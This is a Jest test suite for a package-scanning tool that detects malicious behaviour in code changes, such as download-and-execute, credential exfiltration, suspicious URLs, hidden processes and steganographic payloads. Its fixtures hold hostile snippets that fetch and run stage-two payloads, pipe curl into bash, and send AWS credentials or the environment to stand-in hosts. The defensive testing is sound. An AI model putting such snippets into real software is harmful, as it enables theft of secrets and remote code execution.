// Behaviour rules at GuardDog's level: each pairs a capability (a download,
// a process, a file read) with a threat (execution of what was fetched, a
// secret sent out, a shady endpoint, a hidden process); the capability alone
// is ordinary scientific code and stays quiet.
import { describe, expect, it } from '@jest/globals';
import { expectFires, expectQuiet } from '../helpers/rules';
import { analyseAdded } from '@security-actions/core/content';
import { SOURCE_LITERALS, sourceLines } from '../../packages/core/src/content/behaviour';
import { LISTED, listedBefore, listedName } from '../../packages/core/src/content/calls';
import { calleeBefore } from '../../packages/core/src/content/syntax';
import { newScan } from '../../packages/core/src/content/scan';
import { Text } from '../../packages/core/src/content/source';
import { added, file, severities } from './helpers';
import { seeded, piecesText } from '../helpers/random';

describe('code/download-exec', () => {
  it('fires on exec of a response', () => {
    const f = added('pkg/mod.py', 'payload = requests.get("http://evil.test/stage2").content\nexec(payload)');
    expectFires(f, 'code/download-exec', 1);
    expect(severities(added('pkg/m.py', 'exec(urlopen(URL).read())'), 'code/download-exec')).toEqual(['critical']);
  });

  it('fires on a download written, made executable and run (GuardDog download-executable)', () => {
    const py =
      'r = requests.get(url)\nwith open("/tmp/x", "wb") as f:\n    f.write(r.content)\nos.chmod("/tmp/x", 0o755)\nsubprocess.call("/tmp/x")';
    const found1 = added('pkg/mod.py', py);
    expectFires(found1, 'code/download-exec');
    const found2 = added(
      'pkg/get.py',
      'urllib.request.urlretrieve("https://tryg.ga/n.exe", "n.exe")\nPopen(["n.exe"])'
    );
    expectFires(found2, 'code/download-exec');
  });

  it('fires on a download piped into a shell, by host', () => {
    expect(
      severities(added('scripts/ci.sh', 'curl -sSL https://203.0.113.5/i.sh | bash'), 'code/download-exec')
    ).toEqual(['critical']);
    expect(severities(added('scripts/ci.sh', 'curl -sSL https://example.net/i.sh | sh'), 'code/download-exec')).toEqual(
      ['high']
    );
    expect(
      severities(file('Dockerfile', 'RUN curl -LsSf https://astral.sh/uv/install.sh | sh'), 'code/download-exec')
    ).toEqual(['low']);
  });

  it('is quiet on data downloaders and on running files that were not downloaded (pooch, urllib, subprocess in tests)', () => {
    const loader =
      'def fetch(name):\n    path = pooch.retrieve(URL + name, known_hash=None)\n    return np.load(path)\n';
    const found3 = file('pkg/datasets.py', loader);
    expectQuiet(found3, 'code/download-exec');
    const out =
      'resp = urllib.request.urlopen(url)\nopen("exo.txt", "wb").write(resp.read())\nos.system("echo exo.txt")';
    const found4 = file('tools/get.py', out);
    expectQuiet(found4, 'code/download-exec');
    const found5 = file(
      'pkg/tests/test_cli.py',
      'out = subprocess.run([sys.executable, "-m", "pkg"], capture_output=True)'
    );
    expectQuiet(found5, 'code/download-exec');
  });
});

describe('code/exfiltration', () => {
  it('fires critical when a credential file or a secret variable is sent', () => {
    const creds =
      'with open(os.path.expanduser("~/.aws/credentials")) as f:\n    data = f.read()\nrequests.post("https://collect.example.net", data=data)';
    expect(severities(added('pkg/m.py', creds), 'code/exfiltration')).toEqual(['critical']);
    expect(
      severities(
        added('pkg/n.py', 'requests.post(U, data={"k": os.getenv("AWS_SECRET_ACCESS_KEY")})'),
        'code/exfiltration'
      )
    ).toEqual(['critical']);
  });

  it("is low when the secret goes to a path of the client's own service (jupyterhub's OAuth example, a tree)", () => {
    // jupyterhub@2841153db6c1 examples/service-fastapi/app/service.py: the OAuth code exchange at the hub's /oauth2/token.
    const oauth = [
      'async with get_client() as client:',
      '    data = {',
      '        "client_id": os.environ["JUPYTERHUB_CLIENT_ID"],',
      '        "client_secret": os.environ["JUPYTERHUB_API_TOKEN"],',
      '        "code": code,',
      '    }',
      '    resp = await client.post("/oauth2/token", data=data)'
    ].join('\n');
    expect(severities(file('examples/service-fastapi/app/service.py', oauth), 'code/exfiltration')).toEqual(['low']);
    // The same secret to a URL, or to a protocol-relative host, is still critical.
    const out = oauth.replace('"/oauth2/token"', '"https://collect.example.net/t"');
    expect(severities(file('pkg/s.py', out), 'code/exfiltration')).toEqual(['critical']);
    const scheme = oauth.replace('"/oauth2/token"', '"//collect.example.net/t"');
    expect(severities(file('pkg/s.py', scheme), 'code/exfiltration')).toEqual(['critical']);
  });

  it('fires when the whole environment is sent (npm)', () => {
    const js =
      "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'x.oastify.com', method: 'POST' });\nreq.write(body);";
    const found6 = added('index.js', js);
    expectFires(found6, 'code/exfiltration');
  });

  it('fires on host details beaconed out, and on data hidden in a DNS name', () => {
    const beacon =
      'user = getpass.getuser()\nhost = socket.gethostname()\ndata = {\n    "u": user,\n    "h": host,\n}\nrequests.post("http://198.51.100.7/c", json=data)';
    const found7 = added('setup.py', beacon);
    expectFires(found7, 'code/exfiltration');
    const found8 = added(
      'pkg/d.py',
      'key = os.getenv("AWS_SECRET_ACCESS_KEY")\nsocket.gethostbyname(f"{key}.evil.com")'
    );
    expectFires(found8, 'code/exfiltration');
  });

  it('is quiet on tokens sent as authentication and on resolving the host itself (networkx, jupyter_client)', () => {
    const team =
      'token = os.environ.get("GH_TOKEN")\nresp = requests.get(url=url, headers={"Authorization": f"token {token}"})';
    const found9 = file('tools/team_list.py', team);
    expectQuiet(found9, 'code/exfiltration');
    const found10 = file(
      'jupyter_client/localinterfaces.py',
      'hostname = socket.gethostname()\nips = socket.gethostbyname_ex(hostname)[2]'
    );
    expectQuiet(found10, 'code/exfiltration');
    const found11 = file(
      'tests/test_sftp.py',
      'user = getpass.getuser()\nclient.connect(hostname=host, port=port, username=user)'
    );
    expectQuiet(found11, 'code/exfiltration');
  });

  it('reads for sources exactly the lines that hold a source literal, found in one pass over the text', () => {
    // Lines of literals, pieces of them, non-ASCII text and CRLF endings, in random order.
    const pieces = ['os.environ', 'envir', 'on', 'getenv', 'get', 'env', '~/.ssh/', '.ss', 'h/', 'id_', 'whoami'];
    pieces.push(' = ', 'x', '(', ')', '"', 'é', 'Ж', '\r', '\n', '\n', '\n', 'process.env', 'process.', 'ENV[');
    const rnd = seeded(5);
    let held = 0;
    for (let n = 0; n < 3000; n++) {
      const text = piecesText(rnd, pieces, 40);
      const s = newScan(Text.ofFile(n % 2 ? 'pkg/m.py' : 'web/m.js', text), 'file');
      const expected: number[] = [];
      for (let i = 0; i < s.t.count; i++) if (SOURCE_LITERALS.in(s.t.line(i))) expected.push(i);
      expect([text, [...sourceLines(s)!]]).toEqual([text, expected]);
      held += expected.length;
    }
    expect(held).toBeGreaterThan(1000);
    // A notebook's code lines are unescaped JSON strings (`.ssh\/` is `.ssh/`): read line by line there.
    expect(sourceLines(newScan(Text.ofFile('a.ipynb', '"open(\'~/.ssh\\/id\')"'), 'file'))).toBeUndefined();
  });

  it('keeps a copied environment for a subprocess quiet', () => {
    const found12 = file(
      'tests/test_pycc.py',
      'env = dict(os.environ)\nenv["PYTHONPATH"] = path\nsubprocess.check_call(cmd, env=env)'
    );
    expectQuiet(found12, 'code/exfiltration');
  });
});

describe('code/shady-link', () => {
  it('fires on exfiltration services, higher when data is sent to them', () => {
    const hook = added('pkg/a.py', 'HOOK = "https://webhook.site/abc"');
    expectFires(hook, 'code/shady-link', 1);
    expect(severities(hook, 'code/shady-link')).toEqual(['medium']);
    expect(
      severities(added('pkg/b.py', 'requests.post("https://discord.com/api/webhooks/1/x", json=d)'), 'code/shady-link')
    ).toEqual(['high']);
  });

  it('fires on a raw public IP passed to a network call', () => {
    expect(
      severities(added('pkg/c.py', 'requests.post("http://203.0.113.42/collect", json=data)'), 'code/shady-link')
    ).toEqual(['high']);
  });

  it('reads each URL to its last character, at the end of a line or of the text too', () => {
    const cheap = (text: string) => severities(added('pkg/a.py', text), 'code/shady-link');
    expect(cheap('u = "http://evil.tk"\nv = 1')).toEqual(['low']);
    expect(cheap('u = http://evil.tk')).toEqual(['low']);
    expect(cheap('u = "http://evil.t"')).toEqual([]);
  });

  it('judges a URL seen before (its host classified once) as the first time, long and unusual ones included', () => {
    const run = Math.random().toString(36).slice(2); // URLs this process has not seen
    const urls = [
      `https://webhook.site/${run}`,
      `http://203.0.113.9/${run}`,
      `https://${run}.duckdns.org/x`,
      `https://discord.com/api/webhooks/1/${run}`,
      `https://discord.com/invite/${run}`,
      `https://8.8.8.8/${run}`,
      `https://numpy.org/${run}`,
      `http://127.0.0.1/${run}`,
      `ws://${run}\ud800.tk/`, // a lone surrogate: the host is named in the message as it was written
      `https://pastebin.com/${run}/${'a'.repeat(300)}` // too long to be kept
    ];
    const text = urls.map((u, i) => `r${i} = requests.post("${u}", json=data)`).join('\n');
    const first = file('pkg/send.py', text);
    expect(first.filter((f) => f.ruleId === 'code/shady-link').length).toBe(7);
    expect(first.some((f) => f.message.includes(`\`${run}\ud800.tk\``))).toBe(true);
    expect(file('pkg/send.py', text)).toEqual(first);
    // Found again in another file, at other offsets, each URL is judged the same.
    const again = file('pkg/other.py', `x = 1\n${text.split('\n').reverse().join('\n')}`);
    const shady = (fs: typeof first) =>
      fs.filter((f) => f.ruleId === 'code/shady-link').map((f) => [f.message, f.severity, f.properties]);
    expect(shady(again).sort()).toEqual(shady(first).sort());
  });

  it('is quiet on URLs in comments and docstrings, localhost, and Discord invites', () => {
    const py =
      '# see https://pastebin.com/raw/abc for the format\n"""Upload to https://transfer.sh if needed."""\nURL = "http://127.0.0.1:8000"\nINVITE = "https://discord.com/invite/pytest-dev"\n';
    const found13 = file('pkg/doc.py', py);
    expectQuiet(found13, 'code/shady-link');
    const found14 = file(
      'justfile',
      'port:\n    python -c "import socket; s=socket.socket(); s.bind((\'localhost\', 0))"'
    );
    expectQuiet(found14, 'code/shady-link');
  });
});

describe('code/silent-process', () => {
  it('fires high on a hidden process started at import time (lightning 2026)', () => {
    const py =
      'import subprocess, sys\nsubprocess.Popen([sys.executable, "-m", "pkg._runtime"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)';
    const f = added('src/pkg/__init__.py', py);
    expectFires(f, 'code/silent-process', 1);
    expect(severities(f, 'code/silent-process')).toEqual(['high']);
  });

  it('fires on a detached node process with ignored output', () => {
    const js =
      "const { spawn } = require('child_process');\nspawn('node', ['svc.js'], { detached: true, stdio: 'ignore' }).unref();";
    expect(severities(added('index.js', js), 'code/silent-process')).toEqual(['medium']);
  });

  const silenced = 'subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)';

  it('keeps import time for code at column 0 and in a visible top-level if or try block', () => {
    expect(severities(added('pkg/mod.py', silenced), 'code/silent-process')).toEqual(['high']);
    const inIf = `import sys\nif sys.platform == "linux":\n    ${silenced}`;
    expect(severities(added('pkg/mod.py', inIf), 'code/silent-process')).toEqual(['high']);
    const inTry = `try:\n    import os\n\n    ${silenced}\nexcept Exception:\n    pass`;
    expect(severities(added('pkg/mod.py', inTry), 'code/silent-process')).toEqual(['high']);
    expect(severities(file('pkg/mod.py', inIf), 'code/silent-process')).toEqual(['high']);
  });

  it('is not import time when the enclosing block is not among the added lines (zarr-python@c58bca43f62c)', () => {
    // A pytest fixture's Popen: the change adds the call, not the `def s3(request):` above it.
    const fixture = analyseAdded('zarr/tests/test_storage.py', [
      { line: 1008, text: '        assert (a[:] == -np.ones((8, 8, 8))).all()' },
      { line: 1020, text: '    proc = subprocess.Popen(shlex.split("moto_server s3 -p %s" % port),' },
      { line: 1021, text: '                            stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)' }
    ]);
    expect(severities(fixture, 'code/silent-process')).toEqual(['low']);
    // Out of lines while indented: unknown, not module level.
    expect(severities(added('pkg/mod.py', `    ${silenced}`), 'code/silent-process')).toEqual(['low']);
    // A gap in the added lines while indented: a `def` may sit in the lines the change did not touch.
    const gap = analyseAdded('pkg/mod.py', [
      { line: 1, text: 'if True:' },
      { line: 40, text: `    ${silenced}` }
    ]);
    expect(severities(gap, 'code/silent-process')).toEqual(['low']);
    // The whole file shows the def: not import time either.
    expect(severities(file('pkg/mod.py', `def start():\n    ${silenced}\n`), 'code/silent-process')).toEqual(['low']);
  });

  it('is quiet on a subprocess whose output is captured or shown', () => {
    const found15 = file('tools/build.py', 'def build():\n    subprocess.run(["make"], check=True)\n');
    expectQuiet(found15, 'code/silent-process');
  });
});

describe('code/steganography', () => {
  it('fires on exec of data revealed from an image', () => {
    const f = added('pkg/m.py', 'from judyb import lsb\nexec(lsb.reveal("hidden.png"))');
    expectFires(f, 'code/steganography', 1);
    expect(severities(f, 'code/steganography')).toEqual(['critical']);
  });

  it('is quiet on reading images for analysis', () => {
    const found16 = file('skimage/io.py', 'img = imageio.imread("coins.png")\nresult = eval_metric(img)');
    expectQuiet(found16, 'code/steganography');
  });
});

describe('the calls looked at', () => {
  it('are the ones whose callee ends with a listed name, as comparing the characters before each `(` says', () => {
    // A listed name of four characters or more matches on its last four; a shorter one as a whole word.
    const listed = (s: string, at: number) =>
      LISTED.some((n) =>
        n.length >= 4 ? s.slice(at - 4, at) === n.slice(-4) : s.slice(at - 3, at) === ` ${n}`.slice(-3)
      );
    const pieces = [...LISTED, ...LISTED.map((n) => n.slice(1)), ...LISTED.map((n) => n.slice(0, -1))];
    pieces.push('.', ' ', 'x', 'ab', '(', 'é', '_', '$', 'Run', 'EXEC');
    const rnd = seeded(17);
    let found = 0;
    for (let n = 0; n < 20000; n++) {
      const s = piecesText(rnd, pieces, 4, '    ');
      expect([s, listedBefore(s, s.length)]).toEqual([s, listed(s, s.length)]);
      if (listed(s, s.length)) found++;
    }
    expect(found).toBeGreaterThan(3000);
    expect(found).toBeLessThan(17000);
  });

  it('keep every call whose callee calleeBefore names from the table when the identifier before `(` is tested first', () => {
    // Listed names whole, cut, lengthened and chained; identifiers about as long as the longest listed one.
    const pieces = [
      ...LISTED,
      ...LISTED.map((n) => n.slice(2)),
      ...LISTED.map((n) => `x${n}`),
      ...LISTED.map((n) => n + '_')
    ];
    pieces.push('.', ' ', '()', 'é', '$', '9', 'a'.repeat(20), '_'.repeat(5), ']', 'Series', 'entries', 'queries');
    const longest = LISTED.reduce((a, b) => (b.length > a.length ? b : a));
    pieces.push(longest, `a${longest}`, `.${longest}`);
    const rnd = seeded(29);
    let tails = 0;
    let named = 0;
    let kept = 0;
    for (let n = 0; n < 40000; n++) {
      const s = piecesText(rnd, pieces, 5, rnd(2) ? '' : 'x = ');
      if (!listedBefore(s, s.length)) continue;
      tails++;
      const listed = LISTED.includes(calleeBefore(s, s.length).name);
      if (listed) named++;
      if (listedName(s, s.length)) kept++;
      if (listed) expect([s, listedName(s, s.length)]).toEqual([s, true]);
    }
    expect(named).toBeGreaterThan(3000);
    // What it is for: names that only end like a listed one go no further.
    expect(tails).toBeGreaterThan(named * 2);
    expect(kept).toBeLessThan(named * 1.05);
  });
});
